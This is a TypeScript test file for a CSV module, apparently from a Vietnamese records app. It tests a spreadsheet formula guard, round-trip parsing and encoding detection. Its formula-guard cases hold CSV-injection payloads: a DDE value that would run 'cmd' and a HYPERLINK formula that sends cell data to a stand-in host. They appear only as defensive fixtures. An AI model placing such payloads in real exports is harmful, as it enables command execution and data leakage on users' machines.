/**
 * The one CSV module (server/lib/csv.ts): the formula guard on text but not on numbers, writing and
 * parsing back the same cells, and decoding real bytes as Excel saves them — UTF-8 with and without
 * a BOM, UTF-16 with a BOM, Vietnamese Windows-1258 — while refusing what cannot be read surely.
 */
import iconv from "iconv-lite";
import { describe, expect, it } from "vitest";
import { CsvFileError, csvRows, decodeCsv, guardFormula, parseCsv, readCsv, toCsv } from "../../server/lib/csv.js";
import { TCVN3_THON_PHU_LOC, windows1258Bytes } from "../helpers/encodings.js";

const NAMES = "name\nThôn Phú Lộc\nTổ dân phố Đồng Tâm\nẤp Mỹ Hưng\nBản Nà Ừng\n";
const names = (text: string) => parseCsv(text).records.map((r) => r.fields[0]);

describe("the formula guard", () => {
  it.each([
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://x.example/?q="&A1,"Bấm")', `'=HYPERLINK("http://x.example/?q="&A1,"Bấm")`],
    ["+1+1", "'+1+1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["-1", "'-1"],
    ["Nguyễn Văn A", "Nguyễn Văn A"],
    ["1-2", "1-2"],
  ])("%j is written as %j", (text, guarded) => {
    expect(guardFormula(text)).toBe(guarded);
    // Read back, the guard is still there (a line break inside a cell comes back as "\n").
    expect(parseCsv(`h\n${csvRows([[text]])}`).records[0]!.fields[0]).toBe(guarded.replace("\r", "\n"));
  });

  it("leaves numbers numeric, in the chosen decimal style, and guards text that only looks like one", () => {
    expect(csvRows([[-2, 1.5, 0, -0.25, "-2"]])).toBe("-2,1.5,0,-0.25,'-2\r\n");
    expect(csvRows([[-2, 1.5, -0.25, null, Number.NaN]], { separator: ";", decimal: "," })).toBe("-2;1,5;-0,25;;\r\n");
    expect(csvRows([[["1", "3"], ["-9"]]])).toBe("1;3,'-9\r\n");
  });

  it("writes the export convention: BOM, CRLF, quoting of separators, quotes and line breaks", () => {
    const csv = toCsv(["a", "b"], [['x;y "z"', "l1\nl2"]], { separator: ";", decimal: "," });
    expect(csv).toBe('\uFEFFa;b\r\n"x;y ""z""";"l1\nl2"\r\n');
  });
});

describe("write, then parse back", () => {
  it("gives the same cells for text with separators, quotes, line breaks, diacritics and formulas, and the numbers", () => {
    const rows = [
      ['Đăng ký khai sinh; "gấp", lần 2\nở Thừa Thiên Huế', 1.25, "=1+1 không phải công thức"],
      ["Thôn Phú Lộc", -3, "-2+3+cmd|' /C calc'!A0"],
    ];
    for (const style of [
      { separator: ",", decimal: "." },
      { separator: ";", decimal: "," },
      { separator: "\t", decimal: "." },
    ] as const) {
      const bytes = Buffer.from(toCsv(["text", "number", "formula"], rows, style), "utf8");
      const table = readCsv(bytes);
      expect(table.columns).toEqual(["text", "number", "formula"]);
      expect(table.records.map((r) => r.line)).toEqual([2, 4]);
      expect(table.records.map((r) => r.fields[0])).toEqual([rows[0]![0], rows[1]![0]]);
      expect(table.records.map((r) => Number(r.fields[1]!.replace(",", ".")))).toEqual([1.25, -3]);
      expect(table.records.map((r) => r.fields[2])).toEqual([`'${rows[0]![2]}`, `'${rows[1]![2]}`]);
    }
  });

  it("reports the line of an open or misplaced quote", () => {
    expect(() => parseCsv('a,b\n1,"open\n')).toThrow(CsvFileError);
    try {
      parseCsv('a,b\n1,2\n3,"x"y\n');
    } catch (error) {
      expect((error as CsvFileError).line).toBe(3);
      expect((error as CsvFileError).text.vi).toMatch(/ngoặc kép/);
    }
  });

  it("numbers records by the line they start on, skipping blank ones, with CRLF or LF", () => {
    for (const nl of ["\n", "\r\n"]) {
      const table = parseCsv(["h1,h2", 'a,"b', 'c"', "", ",", "d,e"].join(nl));
      expect(table.records.map((r) => [r.line, r.fields])).toEqual([
        [2, ["a", "b\nc"]],
        [6, ["d", "e"]],
      ]);
    }
  });
});

describe("decoding uploaded bytes", () => {
  it("reads UTF-8 with or without a BOM, and NFC-normalises it", () => {
    expect(decodeCsv(Buffer.from(NAMES, "utf8"))).toEqual({ text: NAMES, encoding: "utf-8" });
    expect(decodeCsv(Buffer.from("\uFEFF" + NAMES, "utf8"))).toEqual({ text: NAMES, encoding: "utf-8" });
    expect(decodeCsv(Buffer.from(NAMES.normalize("NFD"), "utf8")).text).toBe(NAMES);
  });

  it("reads UTF-16 little- and big-endian with a BOM (Excel's “Unicode Text”, tab-separated)", () => {
    const tabbed = "commune_code\tname\n00004\tThôn Phú Lộc\n";
    const le = iconv.encode(tabbed, "utf16le", { addBOM: true });
    expect([...le.subarray(0, 2)]).toEqual([0xff, 0xfe]);
    expect(decodeCsv(le)).toEqual({ text: tabbed, encoding: "utf-16le" });
    expect(parseCsv(decodeCsv(le).text).records[0]!.fields).toEqual(["00004", "Thôn Phú Lộc"]);
    const be = iconv.encode(tabbed, "utf16be", { addBOM: true });
    expect([...be.subarray(0, 2)]).toEqual([0xfe, 0xff]);
    expect(decodeCsv(be)).toEqual({ text: tabbed, encoding: "utf-16be" });
  });

  it("reads Vietnamese Windows-1258 (tones as combining marks) into the same NFC text", () => {
    const bytes = windows1258Bytes(NAMES);
    expect(() => new TextDecoder("utf-8", { fatal: true }).decode(bytes)).toThrow();
    const decoded = decodeCsv(bytes);
    expect(decoded.encoding).toBe("windows-1258");
    expect(decoded.text).toBe(NAMES);
    expect(names(decoded.text)).toEqual(["Thôn Phú Lộc", "Tổ dân phố Đồng Tâm", "Ấp Mỹ Hưng", "Bản Nà Ừng"]);
  });

  it("refuses bytes it cannot read surely, naming the line and asking for “CSV UTF-8”", () => {
    const refusals: Array<[string, Buffer, number]> = [
      // TCVN3 (ABC) "Thôn Phú Lộc": decodes to symbols in Windows-1258.
      ["TCVN3", Buffer.concat([Buffer.from("name\n"), TCVN3_THON_PHU_LOC]), 2],
      // Spanish in Windows-1252: ñ is no Vietnamese letter.
      ["Latin-1 of another language", Buffer.from("name\nokay\nPe\xf1a\n", "latin1"), 3],
      // UTF-16 without its BOM: valid UTF-8 bytes, full of NULs.
      ["UTF-16 without a BOM", iconv.encode("name\nThôn\n", "utf16le"), 1],
      // UTF-16 with a lone surrogate (half of a pair): not text.
      ["broken UTF-16", Buffer.concat([iconv.encode("name\n", "utf16le", { addBOM: true }), Buffer.from([0x00, 0xd8, 0x41, 0x00])]), 2],
      // A control character, which no stored text may hold.
      ["a control character", Buffer.from("name\nThôn\u0007 Một\n", "utf8"), 2],
      // Valid UTF-8 holding U+FFFD: a Windows-1258 file some program already read as UTF-8.
      ["already garbled", Buffer.from("name\nThôn\nTh\uFFFDn Ph\uFFFD L\uFFFD\uFFFDc\n", "utf8"), 3],
      // UTF-8 with a lone surrogate written out (ED A0 80, U+D800): would read as Windows-1258 "í €".
      ["a surrogate written as UTF-8", Buffer.concat([Buffer.from("name\nThon\nTh"), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from("on\n")]), 3],
    ];
    for (const [what, bytes, line] of refusals) {
      let error: unknown;
      try {
        decodeCsv(bytes);
      } catch (e) {
        error = e;
      }
      expect(error, what).toBeInstanceOf(CsvFileError);
      expect((error as CsvFileError).line, what).toBe(line);
      if (what !== "a control character") expect((error as CsvFileError).text.vi, what).toContain("CSV UTF-8");
      if (what !== "a control character") expect((error as CsvFileError).text.en, what).toContain("CSV UTF-8");
      else expect((error as CsvFileError).text.en).toContain("U+0007");
    }
  });
});
